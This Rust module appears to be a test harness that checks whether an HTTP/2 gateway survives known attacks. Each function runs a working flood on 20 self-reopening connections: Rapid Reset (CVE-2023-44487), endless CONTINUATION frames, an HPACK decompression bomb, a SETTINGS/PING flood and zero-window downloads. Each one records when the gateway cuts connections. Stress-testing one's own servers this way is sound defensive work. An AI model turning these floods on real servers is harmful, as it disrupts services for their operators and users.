//! Floods of HTTP/2.

use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::timeout;
use tokio_rustls::client::TlsStream;

use crate::Outcome;
use crate::frames::{
    END_HEADERS, END_STREAM, INDEXED, Kind, PREFACE, block, field, frame, remembered,
};
use crate::gateway::Gateway;

const GET: &[(&[u8], &[u8])] = &[
    (b":method", b"GET"),
    (b":scheme", b"https"),
    (b":authority", b"localhost"),
    (b":path", b"/static/app.js"),
];

/// Requests that are broken off as soon as they are asked for (CVE-2023-44487).
pub(crate) async fn rapid_reset(gateway: &Gateway, time: Duration) -> Result<Outcome> {
    let what = "20 connections, requests and resets as fast as they go, opened again when cut";
    again(what, gateway, 20, time, |turn| {
        let mut bytes = Vec::new();
        for number in 0..50 {
            let stream = turn * 100 + number * 2 + 1;
            bytes.extend(frame(
                Kind::Headers,
                END_STREAM | END_HEADERS,
                stream,
                &block(GET),
            ));
            bytes.extend(frame(Kind::Reset, 0, stream, &8_u32.to_be_bytes()));
        }
        bytes
    })
    .await
}

/// Fields that never end (CVE-2024-27316 and its kind).
pub(crate) async fn continuation(gateway: &Gateway, time: Duration) -> Result<Outcome> {
    let what = "20 connections, fields without end, opened again when cut";
    let more = frame(Kind::Continuation, 0, 1, &field(b"a", &[b'b'; 8000]));
    again(what, gateway, 20, time, move |turn| match turn {
        0 => frame(Kind::Headers, END_STREAM, 1, &block(GET)),
        _ => more.clone(),
    })
    .await
}

/// Requests whose fields unpack to far more than was sent.
pub(crate) async fn hpack(gateway: &Gateway, time: Duration) -> Result<Outcome> {
    let what = "20 connections, requests of 12 KiB that unpack to 32 MiB, opened again when cut";
    again(what, gateway, 20, time, |turn| {
        let mut head = block(GET);
        head.extend(remembered(b"a", &[b'b'; 3900]));
        head.extend([INDEXED; 8000]);
        frame(Kind::Headers, END_STREAM | END_HEADERS, turn * 2 + 1, &head)
    })
    .await
}

/// Settings and pings without end.
pub(crate) async fn control(gateway: &Gateway, time: Duration) -> Result<Outcome> {
    let what = "20 connections, SETTINGS and PING as fast as they go, the answers read";
    let ping = frame(Kind::Ping, 0, 0, &[0; 8]);
    let settings = frame(Kind::Settings, 0, 0, &[]);
    let all = [ping, settings].concat().repeat(200);
    again(what, gateway, 20, time, move |_| all.clone()).await
}

/// Downloads for which there is never any room.
pub(crate) async fn no_window(gateway: &Gateway, time: Duration) -> Result<Outcome> {
    let what = "20 connections with 100 downloads each and a window of nothing";
    let mut begin = frame(Kind::Settings, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let cookie = gateway.cookie.clone();
    let get: &[(&[u8], &[u8])] = &[
        (b":method", b"GET"),
        (b":scheme", b"https"),
        (b":authority", b"localhost"),
        (b":path", b"/download/104857600"),
        (b"cookie", cookie.as_bytes()),
    ];
    let head = block(get);
    for number in 0..100 {
        begin.extend(frame(
            Kind::Headers,
            END_STREAM | END_HEADERS,
            number * 2 + 1,
            &head,
        ));
    }
    once(what, gateway, 20, time, begin).await
}

/// Each connection sends `begin` and then nothing.
async fn once(
    what: &str,
    gateway: &Gateway,
    count: usize,
    time: Duration,
    begin: Vec<u8>,
) -> Result<Outcome> {
    let begun = Instant::now();
    let mut tasks = JoinSet::new();
    for _ in 0..count {
        let (gateway, begin) = (gateway.clone(), begin.clone());
        tasks.spawn(async move {
            let mut stream = open(&gateway).await.ok()?;
            stream.write_all(&begin).await.ok()?;
            stream.flush().await.ok()?;
            let opened = Instant::now();
            let read = read_to_end(&mut stream);
            timeout(time.saturating_sub(begun.elapsed()), read)
                .await
                .ok()?;
            Some(opened.elapsed())
        });
    }
    let cut: Vec<Duration> = tasks.join_all().await.into_iter().flatten().collect();
    Ok(Outcome {
        what: what.to_owned(),
        connections: count,
        cut: cut.len(),
        first: cut.iter().min().copied(),
        last: cut.iter().max().copied(),
    })
}

/// `count` attackers send what `bytes` says at each turn, on a new connection whenever one is cut.
async fn again(
    what: &str,
    gateway: &Gateway,
    count: usize,
    time: Duration,
    bytes: impl Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static,
) -> Result<Outcome> {
    let begun = Instant::now();
    let mut tasks = JoinSet::new();
    for _ in 0..count {
        let (gateway, bytes) = (gateway.clone(), bytes.clone());
        tasks.spawn(async move {
            let mut lives = Vec::new();
            let mut opened = 0;
            while begun.elapsed() < time {
                let Ok(stream) = open(&gateway).await else {
                    tokio::time::sleep(Duration::from_millis(10)).await;
                    continue;
                };
                opened += 1;
                let at = Instant::now();
                let left = time.saturating_sub(begun.elapsed());
                if timeout(left, send_on(stream, &bytes)).await.is_ok() {
                    lives.push(at.elapsed());
                }
            }
            (opened, lives)
        });
    }
    let (mut opened, mut cut) = (0, Vec::new());
    for (connections, lives) in tasks.join_all().await {
        opened += connections;
        cut.extend(lives);
    }
    Ok(Outcome {
        what: what.to_owned(),
        connections: opened,
        cut: cut.len(),
        first: cut.iter().min().copied(),
        last: cut.iter().max().copied(),
    })
}

/// Ends when the other side has had enough.
async fn send_on(stream: TlsStream<TcpStream>, bytes: &impl Fn(u32) -> Vec<u8>) {
    let (mut reader, mut writer) = split(stream);
    let reading = read_to_end(&mut reader);
    let writing = async {
        for turn in 0.. {
            if writer.write_all(&bytes(turn)).await.is_err() || writer.flush().await.is_err() {
                return;
            }
        }
    };
    tokio::select! {
        () = reading => {}
        () = writing => {}
    }
}

async fn read_to_end(stream: &mut (impl tokio::io::AsyncRead + Unpin)) {
    let mut room = vec![0; 16 * 1024];
    while let Ok(1..) = stream.read(&mut room).await {}
}

async fn open(gateway: &Gateway) -> Result<TlsStream<TcpStream>> {
    let mut stream = gateway.connect(&[b"h2"]).await?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(Kind::Settings, 0, 0, &[])).await?;
    stream.flush().await?;
    Ok(stream)
}
